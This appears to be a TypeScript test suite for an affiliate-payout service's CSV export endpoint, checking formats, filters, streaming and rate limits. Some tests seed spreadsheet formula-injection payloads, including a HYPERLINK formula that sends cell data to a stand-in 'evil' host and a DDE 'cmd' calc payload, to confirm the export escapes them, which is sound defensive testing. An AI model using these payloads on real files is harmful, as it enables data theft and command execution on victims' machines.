import { parse } from 'csv-parse/sync'
import { runInNewContext } from 'node:vm'
import { setFlagsFromString } from 'node:v8'
import type pg from 'pg'
import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest'
import { postgresStorage } from '../../adapters/postgres.js'
import { serve, type RunningServer } from '../../adapters/node.js'
import type { AffiliateCreateInput } from '../../src/api/affiliates.js'
import { csvWriter } from '../../src/api/export-pages.js'
import type { Payout } from '../../src/domain/payout.js'
import { at, payout as samplePayout } from '../../src/storage/sample-records.js'
import { memoryStorage, sqlJsStorage, type Storage } from '../../src/index.js'
import { dropSchema, needs, POSTGRES_VAR, postgresUrl, testPool, uniqueName } from '../support/services.js'
import {
  apiCampaignInput,
  expectValidation,
  fieldError,
  KEY_A,
  KEY_B,
  setup,
  UNKNOWN_ID,
  USER_A,
  WS_A,
  WS_A2,
  WS_B,
} from '../support/helpers.js'

type Api = ReturnType<typeof setup>['api']

const PAST = '2025-10-01T12:00:00.000Z'
const WISE_HEADER = [
  'name',
  'recipientEmail',
  'paymentReference',
  'receiverType',
  'amountCurrency',
  'amount',
  'sourceCurrency',
  'targetCurrency',
]
const EVIL_NAME = '=HYPERLINK("https://evil.example/?"&A1,"open")'

/** Rows of a CSV file, every value a string, as a spreadsheet or a provider's parser reads it. */
const rowsOf = (text: string): string[][] => parse(text, { relax_column_count: false }) as string[][]

const textOf = (body: ReadableStream<Uint8Array>) => new Response(body).text()

/** The file's payouts as the `csv` format writes them: `null` as an empty cell, numbers as digits. */
/** A payout's row in the csv format: its answer's values, the affiliate's e-mail after its id. */
const csvRow = (emails: ReadonlyMap<string, string>) => (payout: Payout) =>
  Object.entries(payout)
    .flatMap(([name, value]) => (name === 'affiliateId' ? [value, emails.get(payout.affiliateId)] : [value]))
    .map((value) => (value === null ? '' : String(value)))

/**
 * Two campaigns in workspace A (USD and EUR), one in B; affiliates paid by PayPal, Wise and bank
 * transfer, each with commissions long due; then a payout run per workspace.
 */
async function seed(api: Api) {
  const usd = await api.campaigns.create(
    apiCampaignInput({
      campaignName: 'Dollars',
      currency: 'USD',
      payoutTerm: 30,
      commissionType: 'fixed',
      amount: 10,
      minimumPayoutAmount: 0,
    }),
  )
  const eur = await api.campaigns.create(
    apiCampaignInput({ campaignName: 'Euros', currency: 'EUR', payoutTerm: 30, commissionType: 'fixed', amount: 10 }),
  )
  const other = await api.campaigns.create(
    apiCampaignInput({ workspaceId: WS_B, campaignName: 'Elsewhere', currency: 'USD', payoutTerm: 30 }),
  )
  const affiliate = (campaignId: string, email: string, extra: Partial<AffiliateCreateInput>) =>
    api.affiliates.create({ campaignId, email, ...extra })
  const ann = await affiliate(usd.id, 'ann@example.com', {
    firstName: 'Ann',
    lastName: 'Lee',
    payoutMethod: 'PAYPAL',
    payoutEmail: 'ann.pay@example.com',
  })
  const bob = await affiliate(usd.id, 'bob@example.com', { payoutMethod: 'WISE', payoutEmail: 'bob.wise@example.com' })
  const eve = await affiliate(usd.id, 'eve@example.com', {
    firstName: EVIL_NAME,
    lastName: 'Smith',
    payoutMethod: 'WISE',
    payoutEmail: 'eve@example.com',
  })
  const cy = await affiliate(usd.id, 'cy@example.com', { firstName: 'Cy', payoutMethod: 'BANK_TRANSFER', payoutEmail: 'cy@example.com' })
  const zoe = await affiliate(eur.id, 'zoe@example.com', {
    firstName: 'Zoë',
    lastName: "O'Brien, Jr.",
    payoutMethod: 'WISE',
    payoutEmail: 'zoe@example.com',
  })
  const dan = await affiliate(eur.id, 'dan@example.com', { firstName: 'Dan', payoutMethod: 'PAYPAL', payoutEmail: 'dan@example.com' })
  const far = await affiliate(other.id, 'far@example.com', { firstName: 'Far', payoutMethod: 'PAYPAL', payoutEmail: 'far@example.com' })
  const earn = async (campaignId: string, affiliateId: string, amounts: number[]) => {
    for (const [i, amount] of amounts.entries()) {
      await api.commissions.create({
        campaignId,
        affiliateId,
        amount,
        referredUser: `buyer${i}-${affiliateId.slice(0, 4)}@example.com`,
        commissionDate: PAST,
      })
    }
  }
  await earn(usd.id, ann.id, [10.5, 20])
  await earn(usd.id, bob.id, [7.25])
  await earn(usd.id, eve.id, [3])
  await earn(usd.id, cy.id, [4.1])
  await earn(eur.id, zoe.id, [100, 0.99])
  await earn(eur.id, dan.id, [12])
  await earn(other.id, far.id, [50])
  const runA = await api.payouts.run({ workspaceId: WS_A })
  const runB = await api.payouts.run({ workspaceId: WS_B })
  const byAffiliate = (id: string) => runA.payouts.find((p) => p.affiliateId === id)!
  return {
    campaigns: { usd, eur, other },
    payouts: {
      ann: byAffiliate(ann.id),
      bob: byAffiliate(bob.id),
      eve: byAffiliate(eve.id),
      cy: byAffiliate(cy.id),
      zoe: byAffiliate(zoe.id),
      dan: byAffiliate(dan.id),
      far: runB.payouts[0]!,
    },
    all: runA.payouts,
    emails: new Map([ann, bob, eve, cy, zoe, dan, far].map((a) => [a.id, a.email])),
  }
}

/** Payouts in the order the export writes them: createdAt, then id. */
const inExportOrder = (payouts: Payout[]) =>
  [...payouts].sort((a, b) => (a.createdAt === b.createdAt ? (a.payoutId < b.payoutId ? -1 : 1) : a.createdAt < b.createdAt ? -1 : 1))

describe('GET /payouts/export', () => {
  it("csv: a header of the payout answer fields in answer order (the affiliate's e-mail after its id), then every field of every payout", async () => {
    const { api, call, clock } = setup()
    const { all, payouts, emails } = await seed(api)
    expect(all).toHaveLength(6)
    const response = await call('GET', '/payouts/export?format=csv')
    expect(response.status).toBe(200)
    expect(response.headers.get('content-type')).toBe('text/csv; charset=utf-8')
    const date = new Date(clock.now()).toISOString().slice(0, 10)
    expect(response.headers.get('content-disposition')).toBe(`attachment; filename="payouts-csv-${date}.csv"`)
    // RFC 4180 line ends.
    expect(response.text.split('\r\n')[0]).toBe(Object.keys(payouts.ann).join(',').replace('affiliateId,', 'affiliateId,affiliateEmail,'))
    const [header, ...rows] = rowsOf(response.text)
    expect(header).toEqual([
      'payoutId',
      'workspaceId',
      'campaignId',
      'affiliateId',
      'affiliateEmail',
      'currency',
      'amount',
      'commissionCount',
      'status',
      'payoutMethod',
      'payoutEmail',
      'periodEnd',
      'externalReference',
      'failureReason',
      'paidAt',
      'createdAt',
      'updatedAt',
    ])
    expect(rows).toEqual(inExportOrder(all).map(csvRow(emails)))
    // Amounts with two decimals and their currency, as the API answers them; the other workspace's payout is not there.
    const ann = rows.find((row) => row[0] === payouts.ann.payoutId)!
    expect(ann.slice(4, 8)).toEqual(['ann@example.com', 'USD', '30.50', '2'])
    expect(rows.find((row) => row[0] === payouts.zoe.payoutId)!.slice(4, 7)).toEqual(['zoe@example.com', 'EUR', '100.99'])
    expect(rows.some((row) => row[0] === payouts.far.payoutId)).toBe(false)
  })

  it('paypal: no header row (PayPal reads the first row as a payment); e-mail, amount, currency, payoutId, note, wallet; PayPal payouts only', async () => {
    const { api, call } = setup()
    const { payouts } = await seed(api)
    const response = await call('GET', '/payouts/export?format=paypal')
    expect(response.status).toBe(200)
    expect(response.headers.get('content-disposition')).toMatch(/^attachment; filename="payouts-paypal-\d{4}-\d{2}-\d{2}\.csv"$/)
    const rows = rowsOf(response.text)
    const note = (p: Payout) => `Affiliate commissions due by ${p.periodEnd.slice(0, 10)}`
    expect(rows).toEqual(
      inExportOrder([payouts.ann, payouts.dan]).map((p) => [p.payoutEmail, p.amount, p.currency, p.payoutId, note(p), 'PAYPAL']),
    )
    expect(rows.map((row) => row.slice(0, 3))).toEqual(
      inExportOrder([payouts.ann, payouts.dan]).map((p) => [
        p === payouts.ann ? 'ann.pay@example.com' : 'dan@example.com',
        p === payouts.ann ? '30.50' : '12.00',
        p.currency,
      ]),
    )
  })

  it('wise: the batch template header as Wise spells it; name from the affiliate (its e-mail when it has none), PERSON, target amount; Wise payouts only', async () => {
    const { api, call } = setup()
    const { payouts } = await seed(api)
    const [header, ...rows] = rowsOf((await call('GET', '/payouts/export?format=wise')).text)
    expect(header).toEqual(WISE_HEADER)
    const expected = (p: Payout, name: string) => [
      name,
      p.payoutEmail,
      p.payoutId.slice(0, 8),
      'PERSON',
      'target',
      p.amount,
      p.currency,
      p.currency,
    ]
    expect(rows).toEqual(
      inExportOrder([payouts.bob, payouts.eve, payouts.zoe]).map((p) =>
        expected(p, p === payouts.bob ? 'bob@example.com' : p === payouts.eve ? `'${EVIL_NAME} Smith` : "Zoë O'Brien, Jr."),
      ),
    )
    expect(rows.find((row) => row[1] === 'bob.wise@example.com')!.slice(5)).toEqual(['7.25', 'USD', 'USD'])
    expect(rows.find((row) => row[1] === 'zoe@example.com')!.slice(5)).toEqual(['100.99', 'EUR', 'EUR'])
  })

  it('escapes text that a spreadsheet would run as a formula (=, +, -, @) with a leading apostrophe', async () => {
    const { api, call } = setup()
    const { payouts } = await seed(api)
    await api.payouts.update(payouts.ann.payoutId, { status: 'processing', externalReference: '@SUM(1+1)*cmd|" /C calc"!A0' })
    await api.payouts.update(payouts.ann.payoutId, { status: 'failed', failureReason: '-2+3' })
    const [header, ...rows] = rowsOf((await call('GET', '/payouts/export?format=csv&status=failed')).text)
    const row = Object.fromEntries(header!.map((name, i) => [name, rows[0]![i]]))
    expect(rows).toHaveLength(1)
    expect(row.externalReference).toBe(`'@SUM(1+1)*cmd|" /C calc"!A0`)
    expect(row.failureReason).toBe("'-2+3")
    // What the service writes itself is left alone.
    expect(row.amount).toBe('30.50')
    const wise = rowsOf((await call('GET', '/payouts/export?format=wise')).text)
    expect(wise.find((r) => r[1] === 'eve@example.com')![0]).toBe(`'${EVIL_NAME} Smith`)
  })

  it('escapes text that starts with whitespace and then =, +, - or @ too (spreadsheets trim it first)', async () => {
    const { api, call } = setup()
    const { payouts } = await seed(api)
    await api.payouts.update(payouts.ann.payoutId, { status: 'processing', externalReference: ' =HYPERLINK("http://evil.test")' })
    await api.payouts.update(payouts.ann.payoutId, { status: 'failed', failureReason: '\u00a0\n@SUM(1+1)' })
    const [header, ...rows] = rowsOf((await call('GET', '/payouts/export?format=csv&status=failed')).text)
    const row = Object.fromEntries(header!.map((name, i) => [name, rows[0]![i]]))
    expect(row.externalReference).toBe(`' =HYPERLINK("http://evil.test")`)
    expect(row.failureReason).toBe("'\u00a0\n@SUM(1+1)")
    // Whitespace before anything else, and a tab before a formula, are written once, as before.
    const csvText = await csvWriter()
    expect(csvText([[' plain', '\t=1']])).toBe(` plain,'\t=1\r\n`)
  })

  it('filters: status (default pending), campaignId, repeated payoutId, workspaceId; other workspaces never appear', async () => {
    const { api, call } = setup()
    const { payouts, campaigns, all } = await seed(api)
    const ids = (text: string) =>
      rowsOf(text)
        .slice(1)
        .map((row) => row[0])
        .sort()
    const sorted = (list: Payout[]) => list.map((p) => p.payoutId).sort()
    await api.payouts.update(payouts.bob.payoutId, { status: 'processing' })
    const pending = all.filter((p) => p !== payouts.bob)
    expect(ids((await call('GET', '/payouts/export?format=csv')).text)).toEqual(sorted(pending))
    expect(ids((await call('GET', '/payouts/export?format=csv&status=pending')).text)).toEqual(sorted(pending))
    expect(ids((await call('GET', '/payouts/export?format=csv&status=processing')).text)).toEqual([payouts.bob.payoutId])
    expect(ids((await call('GET', '/payouts/export?format=csv&status=paid')).text)).toEqual([])
    expect(ids((await call('GET', `/payouts/export?format=csv&campaignId=${campaigns.eur.id}`)).text)).toEqual(
      sorted([payouts.zoe, payouts.dan]),
    )
    const two = `payoutId=${payouts.ann.payoutId}&payoutId=${payouts.zoe.payoutId.toUpperCase()}`
    expect(ids((await call('GET', `/payouts/export?format=csv&${two}`)).text)).toEqual(sorted([payouts.ann, payouts.zoe]))
    expect(ids((await call('GET', `/payouts/export?format=csv&payoutId=${payouts.ann.payoutId}`)).text)).toEqual([payouts.ann.payoutId])
    // An id that is unknown, in another workspace, or not pending simply matches nothing.
    const none = `payoutId=${UNKNOWN_ID}&payoutId=${payouts.far.payoutId}&payoutId=${payouts.bob.payoutId}`
    expect(ids((await call('GET', `/payouts/export?format=csv&${none}`)).text)).toEqual([])
    expect(ids((await call('GET', `/payouts/export?format=csv&workspaceId=${WS_A}`)).text)).toEqual(sorted(pending))
    expect(ids((await call('GET', `/payouts/export?format=csv&workspaceId=${WS_A2}`)).text)).toEqual([])
    // Key B sees its own workspace only; key A is refused B's.
    expect(ids((await call('GET', '/payouts/export?format=csv', { key: KEY_B })).text)).toEqual([payouts.far.payoutId])
    const refused = await call('GET', `/payouts/export?format=paypal&workspaceId=${WS_B}`)
    expect(refused.status).toBe(403)
    expect(refused.headers.get('content-type')).toBe('application/json; charset=utf-8')
    expect(refused.body).toEqual({ status: 403, code: 'forbidden', message: 'You do not have access to this workspace' })
    // The method filter and the other filters together.
    expect(rowsOf((await call('GET', `/payouts/export?format=paypal&campaignId=${campaigns.usd.id}`)).text).map((r) => r[3])).toEqual([
      payouts.ann.payoutId,
    ])
    expect(rowsOf((await call('GET', `/payouts/export?format=paypal&payoutId=${payouts.bob.payoutId}&status=processing`)).text)).toEqual([])
  })

  it('an empty export is the header alone (csv, wise) or an empty file (paypal)', async () => {
    const { call } = setup()
    expect((await call('GET', '/payouts/export?format=csv')).text.split('\r\n')[0]).toMatch(/^payoutId,workspaceId,/)
    expect(rowsOf((await call('GET', '/payouts/export?format=csv')).text)).toHaveLength(1)
    expect((await call('GET', '/payouts/export?format=wise')).text).toBe(`${WISE_HEADER.join(',')}\r\n`)
    expect((await call('GET', '/payouts/export?format=paypal')).text).toBe('')
  })

  it('refuses a bad query with the usual JSON validation error', async () => {
    const { call } = setup()
    expectValidation(await call('GET', '/payouts/export'), [fieldError('format', 'format is required', 'query')])
    expectValidation(await call('GET', '/payouts/export?format=xlsx&status=sent'), [
      fieldError('format', 'format must be one of: csv, paypal, wise', 'query'),
      fieldError('status', 'status must be one of: pending, processing, paid, failed, canceled', 'query'),
    ])
    expectValidation(
      await call('GET', `/payouts/export?format=csv&payoutId=${UNKNOWN_ID}&payoutId=nope&payoutId=${UNKNOWN_ID}&payoutId=x`),
      [fieldError('payoutId[1]', 'payoutId[1] must be a UUID', 'query'), fieldError('payoutId[3]', 'payoutId[3] must be a UUID', 'query')],
    )
    const many = Array.from({ length: 501 }, () => `payoutId=${UNKNOWN_ID}`).join('&')
    expectValidation(await call('GET', `/payouts/export?format=csv&${many}`), [
      fieldError('payoutId', 'payoutId must be one to 500 UUIDs', 'query'),
    ])
    expectValidation(await call('GET', '/payouts/export?format=csv&format=wise'), [
      fieldError('format', 'format must be given once', 'query'),
    ])
    expectValidation(await call('GET', '/payouts/export?format=csv&affiliateId=x'), [
      fieldError('affiliateId', 'affiliateId is not a known field', 'query'),
    ])
  })

  it('the typed API and the client give the same file, with its name and type, as a stream', async () => {
    const { api, call, service } = setup()
    const { payouts } = await seed(api)
    // Key A's view: the same workspaces as over HTTP with KEY_A (the app itself sees every workspace).
    const asA = api.as({ keyId: 'key-a', userId: USER_A, workspaceIds: [WS_A, WS_A2] })
    for (const format of ['csv', 'paypal', 'wise'] as const) {
      const overHttp = await call('GET', `/payouts/export?format=${format}`)
      const typed = await asA.payouts.export({ format })
      expect(typed.contentType).toBe('text/csv; charset=utf-8')
      expect(`attachment; filename="${typed.filename}"`).toBe(overHttp.headers.get('content-disposition'))
      expect(typed.body).toBeInstanceOf(ReadableStream)
      expect(await textOf(typed.body)).toBe(overHttp.text)
      const { createAffiliateClient } = await import('../../src/client/index.js')
      const client = createAffiliateClient({
        baseUrl: 'http://test.local/api/v1',
        apiKey: KEY_A,
        fetch: (request) => service.fetch(request),
      })
      const viaClient = await client.payouts.export({ format })
      expect([viaClient.filename, viaClient.contentType]).toEqual([typed.filename, typed.contentType])
      expect(await textOf(viaClient.body)).toBe(overHttp.text)
    }
    // A repeated query name is a list in the typed API; a key's limits hold there too (`as`).
    const two = await api.payouts.export({ format: 'csv', payoutId: [payouts.ann.payoutId, payouts.dan.payoutId] })
    expect(
      rowsOf(await textOf(two.body))
        .slice(1)
        .map((r) => r[0])
        .sort(),
    ).toEqual([payouts.ann.payoutId, payouts.dan.payoutId].sort())
    const asB = api.as({ keyId: 'key-b', userId: 'someone', workspaceIds: [WS_B] })
    await expect(asB.payouts.export({ format: 'csv', workspaceId: WS_A })).rejects.toMatchObject({ status: 403 })
  })
})

/** Inserts `count` pending payouts straight into storage, each a second apart. */
async function insertPayouts(storage: Storage, count: number, overrides: (i: number) => Record<string, unknown> = () => ({})) {
  const ids: string[] = []
  await storage.transaction(async (tx) => {
    for (let i = 0; i < count; i++) {
      const record = samplePayout({
        workspaceId: WS_A,
        createdAt: at(i),
        updatedAt: at(i),
        payoutEmail: `p${i}@example.com`,
        amountMinor: 100 + i,
        ...overrides(i),
      })
      ids.push(record.id)
      await tx.insert('payouts', record)
    }
  })
  return ids
}

/** A storage that counts its transactions. */
function countingStorage(inner: Storage = memoryStorage()) {
  let transactions = 0
  const storage: Storage = { transaction: (work, options) => (transactions++, inner.transaction(work, options)) }
  return { storage, transactions: () => transactions }
}

describe('GET /payouts/export: streaming', () => {
  it('reads one page of 500 payouts per transaction, only as the file is read', async () => {
    const counted = countingStorage()
    const { api } = setup({ storage: counted.storage })
    await insertPayouts(counted.storage, 1_200)
    const before = counted.transactions()
    const file = await api.payouts.export({ format: 'csv' })
    // The first page is read before answering (a storage failure is then an error answer).
    expect(counted.transactions() - before).toBe(1)
    const reader = file.body.getReader()
    const first = await reader.read()
    expect(rowsOf(new TextDecoder().decode(first.value))).toHaveLength(1 + 500)
    expect(counted.transactions() - before).toBe(1)
    await reader.read()
    expect(counted.transactions() - before).toBe(2)
    // A reader that stops reads nothing more.
    await reader.cancel()
    expect(counted.transactions() - before).toBe(2)
  })

  it('10k payouts stream with bounded memory: the heap grows far less than the file while it is read slowly', async () => {
    setFlagsFromString('--expose-gc')
    const gc = runInNewContext('gc') as () => void
    const { api, storage } = setup()
    // Each with a long reference (as a payment system may give), so the file (~5 MB) stands well
    // clear of the heap's own noise between collections (a few hundred kB).
    await insertPayouts(storage, 10_000, (i) => ({ externalReference: `batch-${i}-${'r'.repeat(240)}` }))
    // Two whole exports first, so what is measured is what an export holds, not code being
    // compiled and optimized on first use (about 1 MB on a cold start, none after).
    for (let i = 0; i < 2; i++) await textOf((await api.payouts.export({ format: 'csv' })).body)
    // Collections until the heap settles (one full collection may leave garbage it finds later).
    await new Promise((resolve) => setImmediate(resolve))
    for (let i = 0; i < 5; i++) gc()
    const baseline = process.memoryUsage().heapUsed
    const growth = () => {
      gc()
      return process.memoryUsage().heapUsed - baseline
    }
    const file = await api.payouts.export({ format: 'csv' })
    // Answered: the first page is read and waits as text for the reader.
    let peak = growth()
    const reader = file.body.getReader()
    let size = 0
    let rows = -1
    let pieces = 0
    for (let chunk = await reader.read(); !chunk.done; chunk = await reader.read()) {
      size += chunk.value.byteLength
      rows += new TextDecoder().decode(chunk.value).split('\r\n').length - 1
      pieces++
      // A slow client: the next piece is asked for only after a turn of the event loop, and the
      // heap is measured between pieces.
      await new Promise((resolve) => setImmediate(resolve))
      peak = Math.max(peak, growth())
    }
    expect(rows).toBe(10_000)
    expect(pieces).toBe(20)
    expect(size).toBeGreaterThan(5_000_000)
    // What the export holds at once is a page (500 payouts, ~260 kB of text), not the file.
    expect(peak).toBeLessThan(size / 4)
    console.log(
      `export of 10k payouts: file ${(size / 1e6).toFixed(2)} MB in ${pieces} pieces, peak heap growth ${(peak / 1e3).toFixed(0)} kB`,
    )
  })
})

/**
 * Payouts moving while an export runs, on each storage (their own ordering and isolation): the
 * file never holds a payout twice, nor misses one that stayed selected throughout.
 */
function changingWhileExporting(make: () => Promise<Storage> | Storage) {
  it('a payout changing while the export runs: none given twice, none that stays selected skipped', async () => {
    const { api, storage } = setup({ storage: await make() })
    const ids = await insertPayouts(storage, 1_300)
    const file = await api.payouts.export({ format: 'csv' })
    const reader = file.body.getReader()
    const decoder = new TextDecoder()
    let text = decoder.decode((await reader.read()).value)
    // Ten payouts already written leave the selection (pending → processing): the rows after them shift back.
    for (const id of ids.slice(0, 10)) await api.payouts.update(id, { status: 'processing' })
    // One not yet written leaves it too, and is not written.
    await api.payouts.update(ids[900]!, { status: 'canceled' })
    for (;;) {
      const { done, value } = await reader.read()
      if (done) break
      text += decoder.decode(value)
    }
    const written = rowsOf(text)
      .slice(1)
      .map((row) => row[0])
    expect(new Set(written).size).toBe(written.length)
    expect(written).toEqual(ids.filter((_, i) => i !== 900))
  })

  it('a payout entering the selection behind the reader is not written twice', async () => {
    const { api, storage } = setup({ storage: await make() })
    // 700 failed payouts, then an older pending one that fails while the export runs.
    const ids = await insertPayouts(storage, 701, (i) => (i === 0 ? {} : { status: 'failed' }))
    const file = await api.payouts.export({ format: 'csv', status: 'failed' })
    const reader = file.body.getReader()
    let text = new TextDecoder().decode((await reader.read()).value)
    await api.payouts.update(ids[0]!, { status: 'failed' })
    for (let chunk = await reader.read(); !chunk.done; chunk = await reader.read()) text += new TextDecoder().decode(chunk.value)
    const written = rowsOf(text)
      .slice(1)
      .map((row) => row[0])
    expect(written).toEqual(ids.slice(1))
  })
}

describe('GET /payouts/export on memory storage: payouts changing while it runs', () => changingWhileExporting(() => memoryStorage()))
describe('GET /payouts/export on sql.js: payouts changing while it runs', () => changingWhileExporting(() => sqlJsStorage()))
describe.skipIf(!postgresUrl)(needs('GET /payouts/export on PostgreSQL: payouts changing while it runs', POSTGRES_VAR), () => {
  let pool: pg.Pool
  const schemas: string[] = []
  beforeAll(async () => {
    pool = await testPool()
  })
  afterAll(async () => {
    for (const schema of schemas) await dropSchema(pool, schema)
    await pool.end()
  })
  changingWhileExporting(async () => {
    const schema = uniqueName('export')
    schemas.push(schema)
    const storage = postgresStorage({ pool, schema })
    await storage.ready()
    return storage
  })
})

describe("GET /payouts/export: the key's in-flight slot", () => {
  it('is held while the file is being read, and freed when it ends or the reader cancels', async () => {
    const { service, storage } = setup({ rateLimit: { capacity: 100, refillPerSecond: 100, maxInFlight: 1 } })
    await insertPayouts(storage, 1_200)
    const get = (query: string) =>
      service.fetch(new Request(`http://test.local/api/v1/payouts/export?${query}`, { headers: { 'x-auth-service': KEY_A } }))
    const first = await get('format=csv')
    expect(first.status).toBe(200)
    expect(first.headers.get('ratelimit-limit')).toBe('100')
    // The file is not read yet: the key's one slot is taken.
    const refused = await get('format=paypal')
    expect(refused.status).toBe(429)
    expect(refused.headers.get('content-type')).toBe('application/json; charset=utf-8')
    expect(rowsOf(await first.text())).toHaveLength(1 + 1_200)
    const second = await get('format=csv')
    expect(second.status).toBe(200)
    await second.body!.getReader().cancel()
    // An error before the file starts frees it too.
    expect((await get('format=nope')).status).toBe(400)
    const third = await get('format=wise')
    expect(third.status).toBe(200)
    expect(rowsOf(await third.text())).toHaveLength(1 + 1_200)
  })
})

describe('GET /payouts/export over real HTTP (serve)', () => {
  let running: RunningServer | undefined
  afterEach(async () => {
    await running?.close()
    running = undefined
  })

  it('is sent chunked, with its headers, and parses back whole', async () => {
    const { service, storage } = setup({ rateLimit: { capacity: 100, refillPerSecond: 100 } })
    await insertPayouts(storage, 1_200)
    running = await serve(service, { port: 0 })
    const response = await fetch(`${running.url}/payouts/export?format=csv`, { headers: { 'x-auth-service': KEY_A } })
    expect(response.status).toBe(200)
    expect(response.headers.get('transfer-encoding')).toBe('chunked')
    expect(response.headers.get('content-length')).toBeNull()
    expect(response.headers.get('content-type')).toBe('text/csv; charset=utf-8')
    expect(response.headers.get('content-disposition')).toMatch(/^attachment; filename="payouts-csv-\d{4}-\d{2}-\d{2}\.csv"$/)
    expect(response.headers.get('ratelimit-limit')).toBe('100')
    const rows = rowsOf(await response.text())
    expect(rows).toHaveLength(1 + 1_200)
    expect(new Set(rows.slice(1).map((row) => row[0])).size).toBe(1_200)
  })
})
